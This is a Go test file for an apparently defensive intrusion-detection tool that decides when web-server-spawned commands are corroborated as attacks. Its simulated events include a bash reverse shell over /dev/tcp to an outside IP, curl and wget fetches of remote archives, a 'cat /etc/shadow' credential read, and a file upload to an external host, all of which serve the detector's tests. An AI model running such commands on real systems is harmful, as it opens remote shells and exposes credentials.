package timeline

import (
	"strings"
	"testing"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// TestCorroborate: a web server's fetch-and-unpack is high only when its
// chain shows intent; alone it is what a plugin install does.
func TestCorroborate(t *testing.T) {
	for _, c := range []struct {
		name string
		// then adds what follows the install act (pid 300, a shell of
		// worker1 at 10 s) to the scene
		then func(s *sim, sh who)
		want detect.Severity
	}{
		{"alone", func(*sim, who) {}, detect.SeverityMedium},
		{"benign neighbours at medium", func(s *sim, sh who) {
			s.find(s.connect(10.2, sh, "192.0.2.7", 80), detect.StageCommandAndControl, detect.SeverityMedium, "Web Outbound Connect")
		}, detect.SeverityMedium},
		{"a reverse shell follows", func(s *sim, sh who) {
			s.find(s.exec(11, child(301, sh), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
				detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
		}, detect.SeverityHigh},
		{"what it unpacked is run", func(s *sim, sh who) {
			tool := child(302, sh)
			tool.exe = "/tmp/kit/bin/sysd"
			s.exec(12, tool, "/tmp/kit/bin/sysd", "--daemon")
		}, detect.SeverityHigh},
		{"a system program runs after it", func(s *sim, sh who) {
			rm := child(303, sh)
			rm.exe = "/usr/bin/rm"
			s.exec(12, rm, "rm", "-f", "/tmp/plugin.tgz")
		}, detect.SeverityMedium},
		{"a reverse shell of another shell, tied by time alone", func(s *sim, sh who) {
			// the same server's child a second later, in the same folder:
			// joined to the install by time (the web account's rule), not
			// by evidence (kiln-photourl: students' links fetched beside
			// a scanner's file:///etc/passwd)
			other := shellOf(310, worker2, "/var/www/html/admin")
			s.find(s.exec(11, other, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
				detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
		}, detect.SeverityMedium},
		{"another staging act is no corroboration", func(s *sim, sh who) {
			f := s.find(s.exec(13, child(304, sh), "sh", "-c", "wget -q -O /tmp/x.tgz http://192.0.2.7/x.tgz"),
				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
			f.NeedsCorroboration = true
		}, detect.SeverityMedium},
	} {
		t.Run(c.name, func(t *testing.T) {
			f, got := weakAct(t, "cd /tmp && curl -fsS -o plugin.tgz http://192.0.2.7/p.tgz && tar xzf plugin.tgz -C /var/www/html/plugins",
				detect.StageSuspiciousSpawn, detect.ShowsStaging, c.then)
			if got.Severity != c.want {
				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
			}
			if demoted := got.Severity < f.Severity; demoted != (strings.Contains(got.Reason, "nothing in its chain shows intent") || strings.Contains(got.Reason, "by time alone")) {
				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
			}
			if f.Severity != detect.SeverityHigh {
				t.Error("Build changed its input finding")
			}
			if strings.Contains(c.name, "by time alone") && !strings.Contains(got.Reason, "by time alone") {
				t.Errorf("reason %q: want the time-only tie said", got.Reason)
			}
		})
	}
}

// TestCorroborateDiscovery: a web server's child that only asks who and
// where it runs is high only when its chain shows intent (a diagnostics
// page runs id and uname -a on every view, benign-desk); discovery and
// staging do not corroborate each other.
func TestCorroborateDiscovery(t *testing.T) {
	checkKept(t, "id 2>&1", detect.StageCommandExecution, detect.ShowsDiscovery, "only asks who and where it runs", []keptCase{
		{"alone", func(*sim, who) {}, detect.SeverityMedium},
		{"a fetch beside it is no corroboration", func(s *sim, sh who) {
			f := s.find(s.exec(11, child(304, sh), "sh", "-c", "wget -q -O /tmp/x.tgz http://192.0.2.7/x.tgz"),
				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
			f.NeedsCorroboration, f.Shows = true, detect.ShowsStaging
		}, detect.SeverityMedium},
		{"a secret read follows", secretRead, detect.SeverityHigh},
	})
}

// TestCorroborateSchedule: the account's crontab installed by the
// application's own code (crontab - from an argument list, the table on
// stdin: benign-shop-spokeworks' report schedule page) is high only when
// its chain shows an intrusion.
func TestCorroborateSchedule(t *testing.T) {
	checkKept(t, "crontab -", detect.StagePersistence, detect.ShowsSchedule, "only installs the account's crontab from the application's own code", []keptCase{
		{"alone", func(*sim, who) {}, detect.SeverityMedium},
		{"a secret read follows", secretRead, detect.SeverityHigh},
	})
}

// TestCorroborateShippedSchedule: the account's crontab installed by the
// worker's shell from a file of the site that no record shows written
// (benign-shop-media's release endpoint) is high only when its chain
// shows an intrusion.
func TestCorroborateShippedSchedule(t *testing.T) {
	checkKept(t, "crontab /var/www/html/deploy/www-data.cron", detect.StagePersistence, detect.ShowsShippedSchedule, "from a file of the site's served tree that no record shows written", []keptCase{
		{"alone", func(*sim, who) {}, detect.SeverityMedium},
		{"a secret read follows", secretRead, detect.SeverityHigh},
	})
}

// keptCase is one chain around a weak act and the severity it should end at.
type keptCase struct {
	name string
	then func(s *sim, sh who)
	want detect.Severity
}

// checkKept runs the cases of a weak act (weakAct) and checks its
// severity and that a demotion names why (said).
func checkKept(t *testing.T, cmd string, stage detect.Stage, shows detect.Shows, said string, cases []keptCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f, got := weakAct(t, cmd, stage, shows, c.then)
			if got.Severity != c.want {
				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
			}
			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, said) {
				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
			}
		})
	}
}

// secretRead is a chain's act that shows intent: a secret read.
func secretRead(s *sim, sh who) {
	s.find(s.exec(11, child(301, sh), "sh", "-c", "cat /etc/shadow"),
		detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential File Read")
}

// weakAct runs one corroboration case: a web server's shell (pid 300)
// runs cmd at 10 s as a high finding that needs corroboration (it shows
// shows alone), then adds what follows, builds, and returns the act's
// finding in the result, which must be in a chain.
func weakAct(t *testing.T, cmd string, stage detect.Stage, shows detect.Shows, then func(s *sim, sh who)) (in, got *detect.Finding) {
	t.Helper()
	s := newSim(t, Options{})
	s.webServer()
	sh := shellOf(300, worker1, "/var/www/html/admin")
	sh.exe = "/usr/bin/dash"
	f := s.find(s.exec(10, sh, "sh", "-c", cmd), stage, detect.SeverityHigh, "Web Server Exploitation")
	f.NeedsCorroboration, f.Shows = true, shows
	then(s, sh)
	r := s.build()
	for _, g := range r.Findings {
		if g.Event == f.Event && g.RuleID == f.RuleID {
			got = g
		}
	}
	if got == nil {
		t.Fatal("the act is not among the result's findings")
	}
	if chainOf(r, got) == nil {
		t.Fatal("the result's copy is in no chain: the chain holds another")
	}
	return f, got
}

// TestCorroborateScriptWrite: a script the web server writes where the
// site serves it is a web shell's upload and an installer's settings file
// alike (benign-kbops, benign-tomcat); it is high when its chain shows the
// intent — served, it runs commands that show it — and medium alone, with
// the reason. Its own stage (2) does not corroborate it.
func TestCorroborateScriptWrite(t *testing.T) {
	for _, c := range []struct {
		name string
		then func(s *sim)
		want detect.Severity
	}{
		{"alone", func(*sim) {}, detect.SeverityMedium},
		{"its worker then runs a shell that reads a secret", func(s *sim) {
			s.find(s.exec(12, shellOf(300, worker1, "/var/www/html"), "sh", "-c", "cat /etc/shadow"),
				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Credential File Read")
		}, detect.SeverityHigh},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{})
			s.webServer()
			f := s.find(s.write(10, worker1, parser.KindFileWrite, "/var/www/html/conf.local.php"),
				detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root By Web Server")
			f.NeedsCorroboration, f.Shows = true, detect.ShowsWritten
			c.then(s)
			r := s.build()
			var got *detect.Finding
			for _, g := range r.Findings {
				if g.Event == f.Event {
					got = g
				}
			}
			if got == nil {
				t.Fatal("the write is not among the result's findings")
			}
			if got.Severity != c.want {
				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
			}
			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, "only writes a script where the site serves it") {
				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
			}
		})
	}
}

// TestCorroborateCollection: an archive the server's own program packs
// into a temporary folder (the accountant's export, benign-shop-trophy) is
// staging's act and an export's alike: high when its chain shows intent,
// medium alone with the reason.
func TestCorroborateCollection(t *testing.T) {
	checkKept(t, "7z a -tzip -pS3cret /tmp/acct-Qf2owu/invoices.zip /var/lib/shop/invoices", detect.StageExfiltrationImpact, detect.ShowsCollection, "only packs files into an archive", []keptCase{
		{"alone", func(*sim, who) {}, detect.SeverityMedium},
		{"a secret read before it", secretRead, detect.SeverityHigh},
	})
}

// TestCorroborateTransfer: an upload the application makes (a payroll
// file to the bank's intake, benign-reports; proofs to the print vendor,
// press-ssti) is an exfiltration's act and an integration's alike: high
// when its chain shows intent, medium alone with the reason.
func TestCorroborateTransfer(t *testing.T) {
	checkKept(t, "curl -s -T /srv/out/payroll.p7m https://bank.example/intake/", detect.StageExfiltrationImpact, detect.ShowsTransfer, "only sends files to a destination", []keptCase{
		{"alone", func(*sim, who) {}, detect.SeverityMedium},
		{"a secret read before it", secretRead, detect.SeverityHigh},
	})
}
